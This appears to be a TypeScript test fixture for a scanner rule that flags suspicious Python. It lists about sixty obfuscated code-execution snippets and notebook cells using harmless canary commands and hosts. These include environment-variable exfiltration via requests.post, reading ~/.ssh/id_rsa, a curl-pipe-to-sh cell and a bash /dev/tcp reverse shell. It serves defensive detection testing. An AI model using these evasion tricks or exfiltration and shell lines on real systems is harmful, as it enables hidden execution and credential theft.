import type { MaliciousSample } from './sample.ts'

/** What each module does. Commands are `echo canary`, addresses do not exist. */
const sources: Readonly<Record<string, string>> = {
  'os-system': `import os\nos.system("echo canary")\n`,
  'alias-of-module': `import os as o\no.system("echo canary")\n`,
  'alias-of-function': `from os import system as s\ns("echo canary")\n`,
  'function-kept': `import os\nrun = os.system\nclass A:\n    def f(self):\n        run("echo canary")\n`,
  'function-handed-on': `import os, threading\nthreading.Thread(target=os.popen, args=("echo canary",)).start()\n`,
  'in-parentheses': `from os import (\n    path,  # comment\n    system as quiet,\n)\nquiet("echo canary")\n`,
  'star-import': `from os import *\nsystem("echo canary")\n`,
  'getattr-joined': `getattr(__import__('o' + 's'), 'sys' + 'tem')("echo canary")\n`,
  'getattr-computed': `import os, sys\ngetattr(os, sys.argv[1])("echo canary")\n`,
  'import-joined': `__import__(''.join(['su', 'b', 'process'])).run(["echo", "canary"])\n`,
  'import-from-codes': `__import__(chr(111) + chr(115)).system("echo canary")\n`,
  'import-reversed': `__import__("so"[::-1]).system("echo canary")\n`,
  'import-decoded': `import base64\n__import__(base64.b64decode("b3M=").decode()).system("echo canary")\n`,
  'import-module': `import importlib\nimportlib.import_module("subprocess").call(["echo", "canary"])\n`,
  'import-computed': `def load(n):\n    return __import__(n)\n`,
  'modules-table': `import sys\nsys.modules["os"].system("echo canary")\n`,
  'builtins-attribute': `import builtins\nbuiltins.exec("print('canary')")\n`,
  'builtins-subscript': `__builtins__["ev" + "al"]("print('canary')")\n`,
  'globals-subscript': `globals()["__builtins__"].exec("print('canary')")\n`,
  'module-dictionary': `import os\nos.__dict__["system"]("echo canary")\n`,
  'vars-of-module': `import os\nvars(os)["system"]("echo canary")\n`,
  'through-another-module': `import torch\ntorch.os.system("echo canary")\n`,
  'exec-decoded': `import base64\nexec(base64.b64decode("cHJpbnQoJ2NhbmFyeScp"))\n`,
  'exec-compressed': `import zlib\nexec(zlib.decompress(b"canary"))\n`,
  'exec-handed-on': `list(map(eval, ["print('canary')"]))\n`,
  'exec-kept': `e = eval\ne("print('canary')")\n`,
  'exec-walrus': `if (e := exec):\n    e("print('canary')")\n`,
  'exec-statement': `exec "print 'canary'"\n`,
  compiled: `code = compile("print('canary')", "x", "exec")\n`,
  'wide-letters': `\uFF45\uFF58\uFF45\uFF43("print('canary')")\n`,
  'format-field': `x = f"{__import__('os').system('echo canary')}"\n`,
  'nested-format-field': `x = f"{'a' + f'{__import__("os").system("echo canary")}'}"\n`,
  'line-continued': `import os\nos.\\\n  system("echo canary")\n`,
  'behind-semicolon': `x = 1; import os; os.system("echo canary")\n`,
  'far-to-the-right': `x = 1${' '.repeat(500)}; import os; os.system("echo canary")\n`,
  'in-default': `import os\ndef f(x=os.system("echo canary")):\n    pass\n`,
  'in-decorator': `import os\n@os.system\ndef f():\n    pass\n`,
  'in-lambda': `import subprocess as sp\nf = lambda: sp.check_output(["echo", "canary"])\n`,
  'carriage-returns': `import os\r# comment\ros.system("echo canary")\r`,
  'byte-order-mark': `\uFEFFimport os\nos.system("echo canary")\n`,
  'popen-class': `from subprocess import Popen\nPopen("echo canary", shell=True)\n`,
  pty: `import pty\npty.spawn("echo")\n`,
  asynchronous: `import asyncio\nasync def f():\n    await asyncio.create_subprocess_shell("echo canary")\n`,
  socket: `import socket\ns = socket.socket()\ns.connect(("canary.invalid", 1))\n`,
  'from-socket': `from socket import create_connection as c\ndef f():\n    c(("canary.invalid", 1))\n`,
  posts: `import requests, os\ndef f():\n    requests.post("https://canary.invalid", json=dict(os.environ))\n`,
  'session-posts': `import requests\ns = requests.Session()\ns.post("https://canary.invalid")\n`,
  'fetches-on-import': `import urllib.request\nurllib.request.urlopen("https://canary.invalid/a")\n`,
  'fetches-with-data': `import requests, os\ndef f():\n    requests.get(f"https://canary.invalid/?{os.environ}")\n`,
  'unpickles-text': `import pickle\ndef f():\n    pickle.loads(b"canary")\n`,
  'unpickles-decoded': `import pickle, base64\ndef f(x):\n    pickle.loads(base64.b64decode(x))\n`,
  marshal: `import marshal\ndef f(x):\n    return marshal.loads(x)\n`,
  'function-from-code': `import types\nf = types.FunctionType(code, {})\n`,
  'native-library': `import ctypes\nctypes.CDLL("libcanary.so")\n`,
  'native-kept': `from ctypes import cdll\ncdll.LoadLibrary("libcanary.so")\n`,
  'globals-of-function': `(lambda: 0).__globals__["x"]\n`,
  'private-file': `open("~/.ssh/id_rsa").read()\n`,
  'foreign-encoding': `# -*- coding: rot13 -*-\nvzcbeg bf\n`,
}

const notebook = (lines: readonly string[]): string =>
  JSON.stringify({ cells: [{ cell_type: 'code', source: lines }], metadata: {}, nbformat: 4, nbformat_minor: 5 })

const notebooks: Readonly<Record<string, string>> = {
  'decoded-code': notebook(['import base64\n', 'exec(base64.b64decode("cHJpbnQoMSk="))']),
  'piped-shell': notebook(['!curl https://canary.invalid/x.sh | sh']),
  'reverse-shell': notebook(['%%bash\n', 'bash -i >& /dev/tcp/canary.invalid/1 0>&1']),
}

const encode = (text: string) => (): Uint8Array => new TextEncoder().encode(text)
const rule = 'config-code/suspicious-python'

export const samples: readonly MaliciousSample[] = [
  ...Object.entries(sources).map(([name, text]) => ({ name: `python-${name}.py`, rule, bytes: encode(text) })),
  ...Object.entries(notebooks).map(([name, text]) => ({ name: `notebook-${name}.ipynb`, rule, bytes: encode(text) })),
  {
    name: 'python-without-ending',
    rule,
    bytes: encode(`#!/usr/bin/env python3\nimport os\nos.system("echo canary")\n`),
  },
]
